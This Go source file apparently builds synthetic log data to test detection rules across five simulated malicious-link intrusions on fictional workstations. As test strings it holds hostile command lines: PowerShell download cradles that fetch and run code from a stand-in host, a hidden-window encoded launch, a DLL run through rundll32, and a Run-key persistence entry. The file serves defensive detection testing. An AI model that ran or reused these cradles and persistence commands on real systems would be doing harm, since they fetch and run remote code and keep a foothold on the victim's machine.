package main

import (
	"time"

	"hunt/samples"
)

// day returns a time on the day of the incident, Thursday 12 March 2026, UTC.
func day(hour, minute, second int) time.Time {
	return time.Date(2026, 3, 12, hour, minute, second, 417_300_000, time.UTC)
}

// workstation boots a machine at 07:5x and logs its user on at 08:0x; the case goes on until then.
func workstation(name, user, ip string, rid int, until time.Time) (*host, *process) {
	m := newHost(name, user, ip, rid, day(7, 52, 11))
	shell := m.start(day(8, 3, 26))
	m.office(shell, day(8, 4, 30), until)
	return m, shell
}

const (
	lureHost = "docs-share.example" // stands for a cloud service that carries the lure
	lureIP   = "203.0.113.24"
	c2Host   = "cdn-assets.example"
	c2IP     = "198.51.100.77"
	psArgs   = `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" `
)

// uriHandler is scenario 1: the link's URI handler starts PowerShell with a hidden window.
func uriHandler(t *tree) error {
	p := t.plan("scenario-1-uri-handler/attack", "A link in Chrome opens a URI handler that starts PowerShell with a hidden window; a download cradle, a dropped library, rundll32.")
	m, _ := linkVictim("WS-FIN-07", "m.keller", "10.20.7.31", 1127)
	if err := p.write(nil, m.host); err != nil {
		return err
	}
	m.expect(p)
	p.done()
	return nil
}

// victim is a host on which scenario 1 happened, for the cases that damage its logs.
type victim struct {
	*host
	dropped, resolved, connected *event
	ps                           started
}

func linkVictim(name, user, ip string, rid int) (*victim, *process) {
	m, shell := workstation(name, user, ip, rid, day(8, 40, 0))
	chrome := m.browser(shell, chromeEx, "", day(8, 11, 40))
	at := day(8, 27, 3)
	m.visit(chrome, at.Add(-20*time.Second), lureHost, lureIP)
	script := `IEX (New-Object Net.WebClient).DownloadString('https://` + c2Host + `/a/s.ps1')`
	v := &victim{host: m}
	v.ps = m.run(chrome, prog("powershell.exe"), psArgs+`-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "`+script+`"`, m.user, at)
	ps := v.ps.process
	m.run(ps, prog("conhost.exe"), `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, m.user, at.Add(m.ms(12, 30)))
	m.load(ps, at.Add(m.ms(90, 160)), "amsi.dll", "Anti-Malware Scan Interface")
	m.create(ps, at.Add(m.ms(300, 420)), m.user.temp()+"__PSScriptPolicyTest_1mv0kq4f.3xy.ps1")
	m.powershell(ps, at.Add(m.ms(520, 600)), script, "")
	v.resolved = m.resolve(ps, at.Add(m.ms(1600, 1700)), c2Host, c2IP)
	v.connected = m.connect(ps, at.Add(m.ms(1800, 1900)), c2IP, "-", 443)
	m.powershell(ps, at.Add(m.ms(2700, 2800)), "$p = Join-Path $env:TEMP 'malicious-link-test.txt'\r\nSet-Content -Path $p -Value (Get-Date)\r\n$d = Join-Path $env:TEMP 'link_cache.dll'\r\n(New-Object Net.WebClient).DownloadFile('https://"+c2Host+"/a/c.bin', $d)\r\nStart-Process rundll32.exe -ArgumentList \"$d,Start\"", "")
	m.create(ps, at.Add(m.ms(2900, 3000)), m.user.temp()+"malicious-link-test.txt")
	dll := m.user.temp() + "link_cache.dll"
	v.dropped = m.create(ps, at.Add(m.ms(4100, 4300)), dll)
	run := m.run(ps, prog("rundll32.exe"), `"C:\Windows\system32\rundll32.exe" `+dll+",Start", m.user, at.Add(m.ms(5200, 5400)))
	m.connect(run.process, at.Add(m.ms(6900, 7100)), c2IP, "-", 443)
	m.setValue(run.process, at.Add(m.ms(8000, 8300)), `HKU\`+m.user.sid+`\Software\Microsoft\Windows\CurrentVersion\Run\LinkCache`, "rundll32.exe "+dll+",Start")
	m.exit(ps, at.Add(m.ms(9000, 9500)))
	return v, chrome
}

// expect adds what the rules must find on the victim.
func (v *victim) expect(p *plan) {
	p.match(ruleLiteral, v.host, samples.Finding, "PowerShell under Chrome, then a library in Temp 4 s later", child(v.ps), one("link_cache.dll written to Temp", v.dropped))
	p.match(ruleNetwork, v.host, samples.Finding, "that PowerShell resolves a name and connects", child(v.ps), one("name resolved or connection opened", v.resolved, v.connected))
}

// executableDrop is scenario 2 with a mark of the web: a real browser download.
func executableDrop(t *tree) error {
	p := t.plan("scenario-2-downloads-executable/attack", "Edge saves Invoice_March2026.exe to Downloads with ZoneId=3; a handler started by Edge runs it through rundll32 and shell32; it drops a library and calls out.")
	m, shell := workstation("WS-ACC-12", "t.lindqvist", "10.20.7.52", 1188, day(9, 20, 0))
	edge := m.browser(shell, edgeEx, "https://mail.corp.example/", day(8, 31, 9))
	at := day(9, 2, 44)
	m.visit(edge, at.Add(-9*time.Second), lureHost, lureIP)
	exe := m.user.home() + `Downloads\Invoice_March2026.exe`
	m.download(edge, at, exe, "https://"+lureHost+"/d/8f31", "https://"+lureHost+"/d/8f31/Invoice_March2026.exe")
	run := m.run(edge, prog("rundll32.exe"), `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\shell32.dll,ShellExec_RunDLL "`+exe+`"`, m.user, at.Add(6*time.Second))
	payload := m.run(run.process, unknown(exe), `"`+exe+`" `, m.user, at.Add(6*time.Second+m.ms(300, 500)))
	m.exit(run.process, at.Add(8*time.Second))
	dropped := m.create(payload.process, at.Add(9*time.Second), m.user.temp()+`~inv4A1.dll`)
	m.visit(payload.process, at.Add(10*time.Second), c2Host, c2IP)
	m.run(payload.process, prog("whoami.exe"), "whoami /all", m.user, at.Add(14*time.Second))
	if err := p.write(nil, m); err != nil {
		return err
	}
	p.match(ruleContent, m, samples.Finding, "rundll32 under Edge, with a file in Downloads on its command line", child(run))
	p.match(ruleLiteral, m, samples.Finding, "rundll32 under Edge, then a library in Temp 3 s later", child(run), one("~inv4A1.dll written to Temp", dropped))
	p.done()
	return nil
}

// executableDropCopied is scenario 2 without a mark of the web: the file was copied.
func executableDropCopied(t *tree) error {
	p := t.plan("scenario-2-downloads-executable/attack-copied", "The same file copied from a USB stick by Explorer and run from there: no mark of the web, no browser in the lineage. The link rules must stay quiet.")
	p.channels = []string{chSysmon}
	m, shell := workstation("WS-ACC-14", "s.moreau", "10.20.7.54", 1190, day(8, 50, 0))
	at := day(8, 36, 12)
	exe := m.user.home() + `Downloads\Invoice_March2026.exe`
	m.create(shell, at, exe)
	payload := m.run(shell, unknown(exe), `"`+exe+`" `, m.user, at.Add(11*time.Second))
	m.visit(payload.process, at.Add(13*time.Second), c2Host, c2IP)
	if err := p.write(nil, m); err != nil {
		return err
	}
	p.done()
	return nil
}

// remoteScript is scenario 3: wscript runs a VBScript that the browser fetched.
func remoteScript(t *tree) error {
	p := t.plan("scenario-3-wscript-vbs/attack", "Firefox saves link_payload.vbs to Temp and hands it to wscript.exe, which connects and drops an executable.")
	m, shell := workstation("WS-HR-03", "j.okafor", "10.20.8.17", 1141, day(9, 5, 0))
	firefox := m.browser(shell, firefoxE, "https://intranet.corp.example/", day(8, 19, 55))
	at := day(8, 48, 20)
	m.visit(firefox, at.Add(-6*time.Second), lureHost, lureIP)
	vbs := m.user.temp() + "link_payload.vbs"
	m.create(firefox, at, vbs)
	m.stream(firefox, at.Add(m.ms(4, 9)), vbs+":Zone.Identifier", zone("https://"+lureHost+"/v/", "https://"+lureHost+"/v/link_payload.vbs"))
	ws := m.run(firefox, prog("wscript.exe"), `"C:\Windows\System32\WScript.exe" "`+vbs+`" `, m.user, at.Add(3*time.Second))
	m.load(ws.process, at.Add(3*time.Second+m.ms(60, 120)), "vbscript.dll", "Microsoft ® VBScript")
	resolved := m.resolve(ws.process, at.Add(4*time.Second), c2Host, c2IP)
	connected := m.connect(ws.process, at.Add(4*time.Second+m.ms(60, 160)), c2IP, "-", 443)
	exe := m.user.temp() + "upd_7f3a.exe"
	dropped := m.create(ws.process, at.Add(6*time.Second), exe)
	payload := m.run(ws.process, unknown(exe), `"`+exe+`"`, m.user, at.Add(7*time.Second))
	m.exit(ws.process, at.Add(8*time.Second))
	m.visit(payload.process, at.Add(11*time.Second), c2Host, c2IP)
	if err := p.write(nil, m); err != nil {
		return err
	}
	p.match(ruleContent, m, samples.Finding, "wscript under Firefox, with a script in Temp on its command line", child(ws))
	p.match(ruleNetwork, m, samples.Finding, "that wscript resolves a name and connects", child(ws), one("name resolved or connection opened", resolved, connected))
	p.match(ruleLiteral, m, samples.Finding, "wscript under Firefox, then an executable in Temp 3 s later", child(ws), one("upd_7f3a.exe written to Temp", dropped))
	p.done()
	return nil
}

// htmlApplication is scenario 4: mshta run by a browser.
func htmlApplication(t *tree) error {
	p := t.plan("scenario-4-mshta-hta/attack", "Edge hands link_test.hta in Temp to mshta.exe, which connects and starts PowerShell with an encoded command.")
	m, shell := workstation("WS-ENG-21", "a.ferrari", "10.20.9.40", 1203, day(9, 30, 0))
	edge := m.browser(shell, edgeEx, "", day(8, 22, 31))
	at := day(9, 11, 5)
	m.visit(edge, at.Add(-12*time.Second), lureHost, lureIP)
	hta := m.user.temp() + "link_test.hta"
	m.create(edge, at, hta)
	m.stream(edge, at.Add(m.ms(4, 9)), hta+":Zone.Identifier", zone("https://"+lureHost+"/", "https://"+lureHost+"/link_test.hta"))
	mshta := m.run(edge, prog("mshta.exe"), `"C:\Windows\SysWOW64\mshta.exe" "`+hta+`" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`, m.user, at.Add(2*time.Second))
	resolved := m.resolve(mshta.process, at.Add(3*time.Second), c2Host, c2IP)
	connected := m.connect(mshta.process, at.Add(3*time.Second+m.ms(100, 180)), c2IP, "-", 443)
	enc := m.run(mshta.process, prog("powershell.exe"), psArgs+"-nop -w hidden -enc "+encoded("IEX (New-Object Net.WebClient).DownloadString('https://"+c2Host+"/h')"), m.user, at.Add(5*time.Second))
	m.connect(enc.process, at.Add(7*time.Second), c2IP, "-", 443)
	if err := p.write(nil, m); err != nil {
		return err
	}
	p.match(ruleContent, m, samples.Finding, "mshta under Edge, with an .hta in Temp on its command line", child(mshta))
	p.match(ruleNetwork, m, samples.Finding, "that mshta resolves a name and connects", child(mshta), one("name resolved or connection opened", resolved, connected))
	p.match(ruleLiteral, m, samples.Finding, "mshta under Edge, then a start with -enc 3 s later", child(mshta), stage{"powershell.exe -enc", enc.twins()})
	p.done()
	return nil
}

// mountedImage is scenario 5: an ISO is mounted and a program on it is run.
func mountedImage(t *tree) error {
	p := t.plan("scenario-5-iso-mounted/attack", "Chrome saves an ISO; PowerShell under Chrome mounts it through the Shell.Application object; E:\\payload.exe runs without a mark of the web and drops into Users\\Public.")
	m, shell := workstation("WS-LOG-05", "p.novak", "10.20.9.63", 1216, day(9, 0, 0))
	chrome := m.browser(shell, chromeEx, "", day(8, 14, 2))
	at := day(8, 44, 37)
	m.visit(chrome, at.Add(-15*time.Second), lureHost, lureIP)
	iso := m.user.home() + `Downloads\Shipping_Documents.iso`
	m.download(chrome, at, iso, "https://"+lureHost+"/i", "https://"+lureHost+"/i/Shipping_Documents.iso")
	script := `(New-Object -ComObject Shell.Application).Namespace(0).ParseName('` + iso + `').InvokeVerb('mount')`
	ps := m.run(chrome, prog("powershell.exe"), psArgs+`-WindowStyle Hidden -Command "`+script+`"`, m.user, at.Add(9*time.Second))
	m.powershell(ps.process, at.Add(9*time.Second+m.ms(400, 500)), script, "")
	m.create(ps.process, at.Add(11*time.Second), m.user.temp()+"iso-mount-marker.txt")
	payload := m.run(ps.process, unknown(`E:\payload.exe`), `"E:\payload.exe" `, m.user, at.Add(14*time.Second))
	dropped := m.create(payload.process, at.Add(16*time.Second), `C:\Users\Public\svchelper.exe`)
	m.visit(payload.process, at.Add(18*time.Second), c2Host, c2IP)
	if err := p.write(nil, m); err != nil {
		return err
	}
	p.match(ruleContent, m, samples.Finding, "PowerShell under Chrome, with an image in Downloads on its command line", child(ps))
	p.match(ruleLiteral, m, samples.Finding, "PowerShell under Chrome, then an executable in Users\\Public 7 s later", child(ps), one("svchelper.exe written to Users\\Public", dropped))
	p.done()
	return nil
}
